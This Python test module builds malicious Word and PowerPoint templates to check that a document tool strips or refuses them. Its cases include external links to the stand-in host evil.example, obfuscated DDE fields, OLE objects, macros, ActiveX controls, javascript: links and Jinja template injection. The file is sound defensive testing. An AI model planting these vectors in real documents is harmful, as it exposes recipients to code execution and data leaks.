"""Looks that act, ask, or reach outside: dropped with a word about it, or refused; never carried into an output."""

# ruff: noqa: E501  (tables: an entry is a line)
from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from pathlib import Path
from xml.sax.saxutils import quoteattr

import docx
import pptx
from attack import Attack
from foreign_word import RELATION, RELS, R, W, file, p
from laying import look, repacked, swap

ARGUMENTS = ("build", "outlines/case.yaml", "--template", "own", "--lang", "zh")
SAYS = r"^templates/own/plan\.yaml:2:\d+: error: "
BODY = '<w:bookmarkStart w:id="1" w:name="body"/>' + p("Sample") + '<w:bookmarkEnd w:id="1"/>'
WEB = "http://evil.example/x"
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
WP = 'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'


def code(text: str, shown: str = "shown") -> str:
    """A field, its code in as many runs as there are pieces (parted by |)."""
    parts = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in text.split("|"))
    marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
    return f"{marks[0]}{parts}{marks[1]}<w:r><w:t>{shown}</w:t></w:r>{marks[2]}"


def drawing(inner: str, click: str = "") -> str:
    return (
        f'<w:r><w:drawing><wp:inline {WP}><wp:extent cx="9" cy="9"/><wp:docPr id="7" name="x">{click}</wp:docPr>'
        f"<a:graphic {A}>{inner}</a:graphic></wp:inline></w:drawing></w:r>"
    )


def data(uri: str, inner: str) -> str:
    return f'<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/{uri}">{inner}</a:graphicData>'


def paper(inner: str = "", *, head: str = "", **more: object) -> bytes:
    """A Word file of somebody's own with this before the place of the text, and this in its header."""
    headers = {"header": p("Header", head)} if head else None
    return file(p("Cover ", inner) + BODY, headers=headers, **more)  # type: ignore[arg-type]


def related(kind: str, target: str, parts: Mapping[str, bytes] | None = None, settings: str = "") -> dict[str, object]:
    return {"relations": {"rIdX": (kind, target)}, "parts": dict(parts or {}), "settings": settings}


def plain(out: Path) -> None:
    """The paper can be read, and holds its text."""
    text = "\n".join(q.text for q in docx.Document(str(out / "case" / "own.zh.docx")).paragraphs)
    assert "夜间" in text and "Cover" in text


def word(name: str, made: Callable[[], bytes], says: str = "", holds: Callable[[Path], object] = plain) -> Attack:
    return Attack(f"word-{name}", look(made), says, arguments=ARGUMENTS, holds=holds)


CHART = b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>'
CHART_RELS = (
    f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{RELATION}/oleObject" Target="{WEB}"'
    ' TargetMode="External"/></Relationships>'
).encode()
SHOWN_CHART = drawing(
    data("chart", '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rIdX"/>')
)


def numbered() -> bytes:
    """A bullet that is a picture on the web."""
    bullet = f'<w:numPicBullet w:numPicBulletId="0"><w:pict {V}><v:shape><v:imagedata r:id="rId1"/></v:shape></w:pict></w:numPicBullet>'
    rels = (f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{RELATION}/image" Target="{WEB}"'
            ' TargetMode="External"/></Relationships>')  # fmt: skip
    return paper(
        numbering=f"<w:numbering {W} {R}>{bullet}</w:numbering>", parts={"word/_rels/numbering.xml.rels": rels.encode()}
    )


def fonts() -> bytes:
    """An embedded font that lies on the web."""
    rels = (f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{RELATION}/font" Target="{WEB}"'
            ' TargetMode="External"/></Relationships>')  # fmt: skip
    made = paper(parts={"word/_rels/fontTable.xml.rels": rels.encode()})
    table = f'<w:fonts {W} {R}><w:font w:name="X"><w:embedRegular r:id="rId1"/></w:font></w:fonts>'.encode()
    return repacked(made, {"word/fontTable.xml": table})


def theme() -> bytes:
    """A theme's fill that lies on the web."""
    made = docx_of_ours()
    rels = (f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{RELATION}/image" Target="{WEB}"'
            ' TargetMode="External"/></Relationships>')  # fmt: skip
    return repacked(made, {"word/theme/theme1.xml": swap(b"<a:bgFillStyleLst>", b'<a:bgFillStyleLst><a:blipFill xmlns:r="%s"><a:blip r:link="rId1"/></a:blipFill>' % RELATION.encode())},
                    {"word/theme/_rels/theme1.xml.rels": rels.encode()})  # fmt: skip


def docx_of_ours() -> bytes:
    return (Path(docx.__file__).parent / "templates" / "default.docx").read_bytes()


WORDS = (
    word("template", lambda: paper(settings=f'<w:attachedTemplate {R} r:id="rId1"/>', parts={
        "word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{RELATION}/'
        f'attachedTemplate" Target="{WEB}" TargetMode="External"/></Relationships>'.encode()})),
    word("picture", lambda: paper(drawing(data("picture", '<a:blip r:link="rIdX"/>')), **related("image", WEB))),
    word("picture-vml", lambda: paper(f'<w:r><w:pict {V}><v:shape><v:imagedata r:id="rIdX"/></v:shape></w:pict></w:r>',
                                      **related("image", WEB))),
    word("picture-vml-bare", lambda: paper(f'<w:r><w:pict {V}><v:shape alt="x"><v:fill src="{WEB}" o:href="{WEB}"/></v:shape></w:pict></w:r>')),
    word("shape-link", lambda: paper(f'<w:r><w:pict {V}><v:shape alt="x" href="javascript:evil" target="x"/></w:pict></w:r>')),
    word("picture-click", lambda: paper(drawing(data("picture", "<a:blip/>"), f'<a:hlinkClick {A} r:id="rIdX"/>'),
                                        **related("hyperlink", "file://evil/x"))),
    word("ole", lambda: paper(f'<w:r><w:object {V}><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdX"/></w:object></w:r>',
                              **related("oleObject", "embeddings/evil.bin", {"word/embeddings/evil.bin": b"evil"}))),
    word("ole-linked", lambda: paper(f'<w:r><w:object {V}><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rIdX"/></w:object></w:r>',
                                     **related("oleObject", WEB))),
    word("control", lambda: paper('<w:r><w:control r:id="rIdX"/></w:r>',
                                  **related("control", "activeX/evil.xml", {"word/activeX/evil.xml": b"<evil/>"}))),
    word("altchunk", lambda: file('<w:altChunk r:id="rIdX"/>' + p("Cover") + BODY,
                                  **related("aFChunk", "evil.bin", {"word/evil.bin": b"<script>evil</script>"}))),
    word("subdocument", lambda: file('<w:subDoc r:id="rIdX"/>' + p("Cover") + BODY, **related("subDocument", WEB))),
    word("frame", lambda: paper(**related("frame", WEB))),
    word("macros", lambda: paper(**related("vbaProject", "evil.bin", {"word/evil.bin": b"evil"}))),
    word("glossary", lambda: paper(**related("glossaryDocument", "evil.xml", {"word/evil.xml": b"<evil/>"}))),
    word("merge", lambda: paper(settings='<w:mailMerge><w:query w:val="evil"/></w:mailMerge>')),
    word("unknown-relation", lambda: paper(**related("evil", "evil.bin", {"word/evil.bin": b"evil"}))),
    *(word(f"field-{name}", lambda text=text: paper(code(text))) for name, text in {
        "dde": "DDE cmd evil", "ddeauto": 'DDEAUTO c:\\\\evil "x"', "split": " DD|EAU|TO| evil", "include": "INCLUDETEXT evil",
        "picture": f'INCLUDEPICTURE "{WEB}" \\d', "link": "LINK Excel.Sheet evil", "import": "IMPORT evil",
        "database": 'DATABASE \\d "evil"', "macro": "MACROBUTTON evil x", "html": "HTMLACTIVEX evil", "print": "PRINT evil",
        "ask": 'ASK name "evil"', "fillin": 'FILLIN "evil"', "hyperlink": 'HYPERLINK "file://evil/x"',
        "hyperlink-script": 'HYPERLINK "javascript:evil"', "autotext": "AUTOTEXT evil",
        "case": "dDeAuTo evil", "tabs": "\t\u00a0DDE evil",
    }.items()),
    word("field-in-field", lambda: paper(code("QUOTE |</w:instrText></w:r>" + code("DDE evil") + "<w:r><w:instrText>"))),
    word("field-simple", lambda: paper('<w:fldSimple w:instr=" DDE evil "><w:r><w:t>shown</w:t></w:r></w:fldSimple>')),
    word("field-in-header", lambda: paper(head=code("INCLUDETEXT evil"))),
    word("field-in-style", lambda: paper(head='<w:fldSimple w:instr="HYPERLINK &quot;javascript:evil&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>')),
    word("link", lambda: paper('<w:hyperlink r:id="rIdX"><w:r><w:t>words</w:t></w:r></w:hyperlink>', **related("hyperlink", "javascript://evil"))),
    word("link-to-drive", lambda: paper('<w:hyperlink r:id="rIdX"><w:r><w:t>words</w:t></w:r></w:hyperlink>',
                                        **related("hyperlink", "file://evil/share"))),
    word("chart", lambda: paper(SHOWN_CHART, **related("chart", "charts/c.xml", {
        "word/charts/c.xml": CHART, "word/charts/_rels/c.xml.rels": CHART_RELS}))),
    word("numbering", numbered),
    word("fonts", fonts),
    word("theme", theme, holds=lambda out: None),
    word("jinja", lambda: paper(head="<w:r><w:t>{{ outline.__class__ }}</w:t></w:r>"), SAYS + ".*"),
    word("jinja-loop", lambda: paper(head="<w:r><w:t>{% for x in y %}evil{% endfor %}</w:t></w:r>"), SAYS + ".*cannot read"),
    word("jinja-swells", lambda: paper(head="<w:r><w:t>{{ 'evil' * 10 ** 9 }}</w:t></w:r>"), SAYS + ".*cannot"),
    word("custom-xml", lambda: paper(**related("customXml", "../customXml/item9.xml", {"customXml/item9.xml": b"<evil/>"}))),
    word("properties", lambda: repacked(docx_of_ours(), {"docProps/core.xml": lambda d: re.sub(rb"<dc:creator>.*?</dc:creator>", b"<dc:creator>evil</dc:creator>", d)}),
         holds=lambda out: None),
)  # fmt: skip


def deck(
    change: Mapping[str, Callable[[bytes], bytes]] | None = None, more: Mapping[str, bytes] | None = None
) -> bytes:
    """python-pptx's own template, changed."""
    own = (Path(pptx.__file__).parent / "templates" / "default.pptx").read_bytes()
    return repacked(own, change or {}, more)


MASTER, LAYOUT = "ppt/slideMasters/slideMaster1.xml", "ppt/slideLayouts/slideLayout2.xml"
MASTER_RELS, LAYOUT_RELS = (f"{n.rpartition('/')[0]}/_rels/{n.rpartition('/')[2]}.rels" for n in (MASTER, LAYOUT))
DECK_RELS = "ppt/_rels/presentation.xml.rels"


def relation(kind: str, target: str, outside: bool = True, microsoft: bool = False) -> Callable[[bytes], bytes]:
    base = "http://schemas.microsoft.com/office/2007/relationships" if microsoft else RELATION
    mode = ' TargetMode="External"' if outside else ""
    one = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target={quoteattr(target)}{mode}/>'
    return swap(b"</Relationships>", one.encode() + b"</Relationships>")


def shape(inner: str) -> Callable[[bytes], bytes]:
    xml = (f'<p:pic><p:nvPicPr><p:cNvPr id="99" name="x">{inner if "hlink" in inner else ""}</p:cNvPr><p:cNvPicPr/><p:nvPr>'
           f'{inner if "File" in inner else ""}</p:nvPr></p:nvPicPr><p:blipFill>{inner if "blip" in inner else "<a:blip/>"}'
           '<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr/></p:pic></p:spTree>')  # fmt: skip
    return swap(b"</p:spTree>", xml.encode())


def shows(out: Path) -> None:
    titles = [
        s.shapes.title.text_frame.text
        for s in pptx.Presentation(str(out / "case" / "own.zh.pptx")).slides
        if s.shapes.title
    ]
    assert any("夜间" in title for title in titles), titles


def slides(name: str, made: Callable[[], bytes], says: str = "") -> Attack:
    return Attack(f"deck-{name}", look(made, "seminar"), says, arguments=ARGUMENTS, holds=shows)


DECKS = (
    slides("picture", lambda: deck({LAYOUT: shape('<a:blip r:link="rIdX"/>'), LAYOUT_RELS: relation("image", WEB)})),
    slides("picture-master", lambda: deck({MASTER: shape('<a:blip r:link="rIdX"/>'), MASTER_RELS: relation("image", WEB)})),
    slides("video", lambda: deck({LAYOUT: shape('<a:videoFile r:link="rIdX"/>'), LAYOUT_RELS: relation("video", WEB)})),
    slides("sound", lambda: deck({LAYOUT: shape('<a:audioFile r:link="rIdX"/>'), LAYOUT_RELS: relation("audio", WEB)})),
    slides("link", lambda: deck({LAYOUT: shape('<a:hlinkClick r:id="rIdX"/>'), LAYOUT_RELS: relation("hyperlink", "file://evil/x")})),
    slides("link-program", lambda: deck({LAYOUT: shape('<a:hlinkClick r:id="rIdX" action="ppaction://program"/>'),
                                         LAYOUT_RELS: relation("hyperlink", "evil.exe")})),
    slides("link-macro", lambda: deck({LAYOUT: shape('<a:hlinkClick r:id="" action="ppaction://macro?name=evil"/>')})),
    slides("hover-macro", lambda: deck({MASTER: shape('<a:hlinkHover r:id="" action="ppaction://macro?name=evil"/>')})),
    slides("ole", lambda: deck({LAYOUT_RELS: relation("oleObject", "../embeddings/evil.bin", False)},
                               {"ppt/embeddings/evil.bin": b"evil"}), "|"[:0]),
    slides("ole-linked", lambda: deck({LAYOUT_RELS: relation("oleObject", WEB)})),
    slides("control", lambda: deck({LAYOUT_RELS: relation("control", WEB)})),
    slides("macros", lambda: deck({DECK_RELS: relation("vbaProject", "vbaProject.bin", False, True),
                                   "[Content_Types].xml": swap(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')},
                                  {"ppt/vbaProject.bin": b"evil"}), SAYS + ".* holds macros"),
    slides("theme", lambda: deck(more={"ppt/theme/_rels/theme1.xml.rels": f'<Relationships xmlns="{RELS}"><Relationship Id="rIdX" Type="{RELATION}/image" Target="{WEB}" TargetMode="External"/></Relationships>'.encode()})),
    slides("custom-xml", lambda: deck({DECK_RELS: relation("customXml", "../customXml/evil.xml", False)}, {"customXml/evil.xml": b"<evil/>"})),
    slides("unknown", lambda: deck({DECK_RELS: relation("evil", "evil.xml", False)}, {"ppt/evil.xml": b"<evil/>"})),
    slides("ribbon", lambda: deck({"_rels/.rels": relation("ui/extensibility", "customUI/evil.xml", False, True)},
                                  {"customUI/evil.xml": b'<evil onLoad="x"/>'})),
    slides("size-zero", lambda: deck({"ppt/presentation.xml": lambda d: re.sub(rb'<p:sldSz cx="\d+" cy="\d+"', b'<p:sldSz cx="0" cy="0"', d)}), SAYS + ".*"),
    slides("size-huge", lambda: deck({"ppt/presentation.xml": lambda d: re.sub(rb'<p:sldSz cx="\d+" cy="\d+"', b'<p:sldSz cx="2147483647" cy="2147483647"', d)}), r":\d+:\d+: error: "),
    slides("size-words", lambda: deck({"ppt/presentation.xml": lambda d: re.sub(rb'<p:sldSz cx="\d+"', b'<p:sldSz cx="evil"', d)}), SAYS + ".*"),
    slides("no-layouts", lambda: deck({MASTER: lambda d: re.sub(rb"<p:sldLayoutIdLst>.*</p:sldLayoutIdLst>", b"", d, flags=re.DOTALL)}), SAYS + ".*"),
    slides("same-layout", lambda: deck({MASTER_RELS: lambda d: re.sub(rb"slideLayout\d+\.xml", b"slideLayout1.xml", d)})),
    slides("no-theme", lambda: deck({MASTER_RELS: lambda d: re.sub(rb"<Relationship [^>]*theme1\.xml[^>]*/>", b"", d)}), SAYS + ".*"),
)  # fmt: skip

ATTACKS = (*WORDS, *DECKS)
